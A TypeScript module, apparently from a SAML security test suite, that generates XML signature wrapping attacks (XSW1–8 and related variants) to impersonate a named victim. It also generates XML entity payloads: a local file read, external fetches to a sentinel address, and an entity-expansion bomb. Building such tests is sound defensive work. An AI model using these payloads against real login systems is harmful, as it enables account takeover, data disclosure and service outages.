/** Makes attacks from a captured, signed response (safety F46): the eight signature wrappings, each in the name of a victim. */

export interface CapturedResponse {
  /** A response whose assertion is signed. */
  assertionSigned: string
  /** A response of which only the whole is signed. */
  responseSigned: string
  /** The person whom the attacker wants to impersonate. */
  victim: string
}

const ASSERTION = /<saml:Assertion .*<\/saml:Assertion>/s
const SIGNATURE = /<ds:Signature .*<\/ds:Signature>/s
const NAME_ID = /(<saml:NameID [^>]*>)[^<]*/

const unsigned = (xml: string) => xml.replace(SIGNATURE, '')
const renamed = (xml: string) => xml.replace(/ ID="[^"]*"/, ' ID="_evil"')
const assertionIn = (xml: string) => ASSERTION.exec(xml)![0]
const signatureIn = (xml: string) => SIGNATURE.exec(xml)![0]
const withAssertion = (xml: string, assertion: string) => xml.replace(ASSERTION, () => assertion)
const before = (xml: string, mark: string, what: string) => xml.replace(mark, () => `${what}${mark}`)
const atEnd = (xml: string, name: string, what: string) => before(xml, `</${name}>`, what)

/** Makes XSW 1 to 8, with the names of the usual attack tools. */
export function wrappings({ assertionSigned, responseSigned, victim }: CapturedResponse): [string, string][] {
  const asVictim = (xml: string) => xml.replace(NAME_ID, `$1${victim}`)
  const original = assertionIn(assertionSigned)
  const evil = asVictim(renamed(unsigned(original)))
  const evilSigned = asVictim(renamed(original))
  const bare = unsigned(original)
  const evilResponse = asVictim(renamed(unsigned(responseSigned)))
  const originalResponse = unsigned(responseSigned)
  const signature = signatureIn(responseSigned)
  const afterIssuer = (xml: string, what: string) => xml.replace('</saml:Issuer>', () => `</saml:Issuer>${what}`)
  const wrapsResponse = atEnd(signature, 'ds:Signature', originalResponse)
  const sameId = bare.replace(NAME_ID, `$1${victim}`)
  return [
    ['XSW1: a response around the signature that holds the signed one', afterIssuer(evilResponse, wrapsResponse)],
    ['XSW2: a response beside the signed one', afterIssuer(evilResponse, originalResponse + signature)],
    ['XSW3: an assertion before the signed one', withAssertion(assertionSigned, evil + original)],
    ['XSW3: an assertion after the signed one', withAssertion(assertionSigned, original + evil)],
    [
      'XSW4: an assertion around the signed one',
      withAssertion(assertionSigned, atEnd(evil, 'saml:Assertion', original)),
    ],
    ['XSW5: a signature moved to another assertion', withAssertion(assertionSigned, evilSigned + bare)],
    [
      'XSW6: the signed assertion in the signature of another',
      withAssertion(assertionSigned, atEnd(evilSigned, 'ds:Signature', bare)),
    ],
    [
      'XSW7: an assertion in the extensions',
      withAssertion(assertionSigned, `<samlp:Extensions>${evil}</samlp:Extensions>${original}`),
    ],
    [
      'XSW8: the signed assertion in an object of the signature',
      withAssertion(assertionSigned, atEnd(evilSigned, 'ds:Signature', `<ds:Object>${bare}</ds:Object>`)),
    ],
    ['an assertion with the same ID', withAssertion(assertionSigned, sameId + original)],
    [
      'an assertion of no namespace around the signed one',
      withAssertion(assertionSigned, `<Assertion xmlns="">${original}</Assertion>`),
    ],
  ]
}

/** Makes responses with entities: external ones, ones that grow, and ones that hide text. */
export function doctypes(response: string, sentinel: string): [string, string][] {
  const grow = Array.from({ length: 12 }, (_, at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`)
  const withEntity = (doctype: string, name: string) => doctype + response.replace(NAME_ID, `$1&${name};`)
  return [
    ['a file', withEntity('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>', 'x')],
    ['an address', withEntity(`<!DOCTYPE r [<!ENTITY x SYSTEM "${sentinel}">]>`, 'x')],
    ['a foreign document type', `<!DOCTYPE r SYSTEM "${sentinel}">${response}`],
    ['a parameter entity', `<!DOCTYPE r [<!ENTITY % x SYSTEM "${sentinel}"> %x;]>${response}`],
    ['a bomb', withEntity(`<!DOCTYPE r [<!ENTITY a0 "ha">${grow.join('')}]>`, 'a12')],
    ['a harmless one', withEntity('<!DOCTYPE r [<!ENTITY x "somebody">]>', 'x')],
  ]
}
